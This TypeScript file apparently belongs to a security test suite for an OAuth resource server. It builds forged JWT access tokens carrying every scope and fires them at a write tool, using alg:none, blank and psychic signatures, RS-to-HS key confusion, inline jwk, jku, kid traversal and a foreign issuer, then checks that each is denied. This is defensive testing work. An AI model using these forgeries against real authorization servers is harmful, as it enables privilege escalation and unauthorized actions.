/**
 * escalate.forged-jwt.* (RFC 8725 §2.1, §2.9, §3.1–3.3, §3.5, §3.10; RFC 9068 §4) and
 * escalate.foreign-issuer (RFC 9068 §4, RFC 8725 §3.8; NHI8): access tokens the attacker made
 * itself, with ELEVATED claims (every tool scope, refunds included; the carrier's principal, tenant
 * and actor chain) and `cnf.jkt` of the attacker's own DPoP key, so the proof that goes with them is
 * consistent and only the token's trustworthiness is at stake. They call the write tool, so an
 * accepted forgery is also a side effect.
 *
 * Variants, after jwt_tool `-X` and PortSwigger's JWT labs: `alg: none`; the AS's kid with an empty
 * signature; HS256 with an empty secret; ES256 with r = s = 0 (CVE-2022-21449); HS256 keyed with
 * the AS's public key (algorithm confusion); an attacker key inlined as `jwk`; `jku` pointing at a
 * closed loopback port (a server that fetches it has an SSRF, RFC 8725 §3.10); `kid` path traversal
 * to /dev/null with an empty HS256 key; a well-signed token from another (staging) issuer.
 *
 * The server can trust no claim of a forged token, so its deny record names nobody: attribution
 * `anonymous` (the reference records principal {sub: null, type: anonymous}).
 *
 * prepared: the AS's current signing kid (from a real token) and that key as PEM (from jwks_uri).
 */
import { createPublicKey, type JsonWebKey } from 'node:crypto'
import { anonymousExpected } from '../../contracts/identity.ts'
import { generateIdentityKey } from '../../protocol/identity-key.ts'
import type { IdentityKey } from '../../contracts/identity.ts'
import { httpRequest } from '../../protocol/http.ts'
import { httpClientFor } from '../../protocol/oauth-client.ts'
import { randomB64url } from '../../protocol/random-id.ts'
import { tokenHash } from '../../protocol/token-hash.ts'
import type { CaseKit } from '../kit.ts'
import { CaseNotCovered, type ActionEnv, type AttackModule } from '../types.ts'
import { compactJws, unverifiedHeader, type Signer } from './forge-jws.ts'
import { actClaim, allScopes, callArgs, writeTool } from './tool-call.ts'

export type ForgeVariant = 'alg-none' | 'null-sig' | 'blank-hmac' | 'psychic-sig' | 'key-confusion' | 'inline-jwk' | 'jku' | 'kid-traversal' | 'unknown-kid'

export const FOREIGN_ISSUER = 'https://staging-as.gatecrash.invalid'
/** discard port on loopback: nothing listens, so a fetch fails fast and nothing leaves the box */
export const JKU_URL = 'http://127.0.0.1:9/jwks'

export interface AsKeyMaterial {
  /** kid of the key the AS signs with now, read from a real token's header */
  kid: string | null
  /** that public key as SPKI PEM: the "secret" of the RS→HS confusion */
  pem: string | null
}

export async function asKeyMaterial(kit: CaseKit): Promise<AsKeyMaterial> {
  const sample = kit.identities[0]?.credential.accessToken
  const header = sample ? unverifiedHeader(sample) : null
  const kid = typeof header?.kid === 'string' ? header.kid : null
  let pem: string | null = null
  if (kit.meta.jwks_uri) {
    const res = await httpRequest(kit.meta.jwks_uri, { client: httpClientFor(kit.meta) })
    const keys = (res.body as { keys?: (JsonWebKey & { kid?: string })[] } | null)?.keys ?? []
    const jwk = keys.find((k) => k.kid === kid) ?? keys[0]
    if (jwk) pem = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString()
  }
  return { kid, pem }
}

/** Claims a real token of the carrier would have, widened to every tool scope and bound to `jkt`. */
export function elevatedClaims(env: ActionEnv, jkt: string, iss: string): Record<string, unknown> {
  const now = Math.floor(Date.now() / 1000)
  const id = env.identity
  return {
    iss,
    sub: id.principal,
    aud: env.rs.audience,
    client_id: id.clientId,
    iat: now,
    exp: now + 300,
    jti: randomB64url(16),
    scope: allScopes(env.rs).join(' '),
    tenant: id.tenant,
    principal_type: 'user',
    act: actClaim(id.actors),
    cnf: { jkt },
  }
}

/** Header and signer of one variant; `attacker` is the attacker's key (also its DPoP key). */
export function forgery(variant: ForgeVariant, m: AsKeyMaterial, attacker: IdentityKey): { header: Record<string, unknown>; signer: Signer } {
  const typ = 'at+jwt'
  const asKid = m.kid ?? undefined
  switch (variant) {
    case 'alg-none':
      return { header: { alg: 'none', typ, kid: asKid }, signer: { raw: Buffer.alloc(0) } }
    case 'null-sig':
      return { header: { alg: 'ES256', typ, kid: asKid }, signer: { raw: Buffer.alloc(0) } }
    case 'blank-hmac':
      return { header: { alg: 'HS256', typ, kid: asKid }, signer: { hs256: '' } }
    case 'psychic-sig':
      return { header: { alg: 'ES256', typ, kid: asKid }, signer: { raw: Buffer.alloc(64) } }
    case 'key-confusion':
      return { header: { alg: 'HS256', typ, kid: asKid }, signer: { hs256: m.pem ?? '' } }
    case 'inline-jwk':
      return { header: { alg: 'ES256', typ, kid: attacker.kid, jwk: attacker.publicJwk }, signer: { es256: attacker.privateKey } }
    case 'jku':
      return { header: { alg: 'ES256', typ, kid: attacker.kid, jku: JKU_URL }, signer: { es256: attacker.privateKey } }
    case 'kid-traversal':
      return { header: { alg: 'HS256', typ, kid: '../../../../dev/null' }, signer: { hs256: '' } }
    case 'unknown-kid':
      // ES256 by the attacker under a kid shaped like the AS's (a thumbprint) that the AS never
      // published: only a JWKS lookup can refuse it, so it is what a JWKS outage tests
      return { header: { alg: 'ES256', typ, kid: attacker.kid }, signer: { es256: attacker.privateKey } }
  }
}

async function fireForged(env: ActionEnv, caseId: string, make: (attacker: IdentityKey) => string): Promise<void> {
  const attacker = generateIdentityKey()
  const token = make(attacker)
  const tool = writeTool(env.rs)
  await env.send({
    kind: 'attack',
    caseId,
    tool,
    tenant: env.identity.tenant,
    ...callArgs(tool, env.salt),
    // the attacker's own DPoP proof, `ath` over the forged token: consistent with cnf.jkt
    credential: { accessToken: token, tokenHash: tokenHash(token), key: attacker },
    expected: anonymousExpected(env.identity.tenant, tool, env.rs),
    scheduledAt: env.scheduledAt,
  })
}

function module(variant: ForgeVariant): AttackModule {
  return {
    id: `escalate.forged-jwt.${variant}`,
    eligible: () => true,
    async prepare(kit) {
      const m = await asKeyMaterial(kit)
      if (variant === 'key-confusion' && m.pem === null) throw new CaseNotCovered('the AS publishes no jwks_uri to take the public key from')
      return m
    },
    fire(env) {
      const m = env.prepared as AsKeyMaterial
      return fireForged(env, this.id, (attacker) => {
        const { header, signer } = forgery(variant, m, attacker)
        return compactJws(header, elevatedClaims(env, attacker.jkt, env.meta.issuer), signer)
      })
    },
  }
}

export const escalateForgedAlgNone = module('alg-none')
export const escalateForgedNullSig = module('null-sig')
export const escalateForgedBlankHmac = module('blank-hmac')
export const escalateForgedPsychicSig = module('psychic-sig')
export const escalateForgedKeyConfusion = module('key-confusion')
export const escalateForgedInlineJwk = module('inline-jwk')
export const escalateForgedJku = module('jku')
export const escalateForgedKidTraversal = module('kid-traversal')
export const escalateForgedUnknownKid = module('unknown-kid')

export const escalateForeignIssuer: AttackModule = {
  id: 'escalate.foreign-issuer',
  eligible: () => true,
  fire(env) {
    return fireForged(env, this.id, (attacker) => {
      // a genuine, well-formed token of another AS (its own key and kid), valid in every other respect
      const staging = generateIdentityKey()
      return compactJws({ alg: 'ES256', typ: 'at+jwt', kid: staging.kid }, elevatedClaims(env, attacker.jkt, FOREIGN_ISSUER), { es256: staging.privateKey })
    })
  },
}
